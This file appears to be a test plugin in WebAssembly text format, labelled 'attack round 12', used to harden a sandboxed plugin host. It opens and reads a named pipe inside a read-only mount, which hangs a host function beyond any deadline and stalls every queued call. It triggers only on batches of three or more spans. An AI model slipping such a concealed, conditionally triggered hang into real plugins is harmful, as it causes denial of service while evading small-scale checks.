;; Attacks: WASI path_open of "fifo" in a granted read-only mount, then a
;; read of it. Opening a named pipe for reading blocks until a writer
;; comes, inside a host function, where no deadline reaches: a call hung
;; there, and every call queued behind its instance (attack round 12).
;; It reports the open's WASI errno on the first span as mount.errno.
;; A batch of one or two spans behaves; three or more attack.
;;
;; Build: wat2wasm mount_fifo.wat -o mount_fifo.wasm
(module
  (import "wasmcol" "len" (func $len (param i32) (result i32)))
  (import "wasmcol" "edit" (func $edit (param i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_open"
    (func $open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_read"
    (func $read (param i32 i32 i32 i32) (result i32)))
  (memory (export "memory") 1)
  (data (i32.const 0) "\01\03\00\00\00\00\0a\00\00\00sandbox.ok\04\01")
  (data (i32.const 100) "fifo")
  ;; A SetAttr edit on span 0, its Int value at 322.
  (data (i32.const 300) "\01\03\00\00\00\00\0b\00\00\00mount.errno\02\00\00\00\00\00\00\00\00")
  (func $attack
    (i64.store (i32.const 322) (i64.extend_i32_u
      (call $open (i32.const 3) (i32.const 0) (i32.const 100) (i32.const 4)
        (i32.const 0) (i64.const 2) (i64.const 0) (i32.const 0) (i32.const 200))))
    ;; iovec at 300 would be overwritten: at 400, 16 bytes at 500
    (i32.store (i32.const 400) (i32.const 500))
    (i32.store (i32.const 404) (i32.const 16))
    (drop (call $read (i32.load (i32.const 200)) (i32.const 400) (i32.const 1) (i32.const 420)))
    (drop (call $edit (i32.const 300) (i32.const 30))))
  (func (export "wasmcol_abi_version") (result i32) (i32.const 1))
  (func (export "wasmcol_signals") (result i32) (i32.const 1))
  (func (export "wasmcol_init") (result i32) (i32.const 0))
  (func (export "wasmcol_process") (param i32) (result i32)
    (if (i32.ge_u (call $len (i32.const 3)) (i32.const 3))
      (then (call $attack)))
    (drop (call $edit (i32.const 0) (i32.const 22)))
    (i32.const 0)))
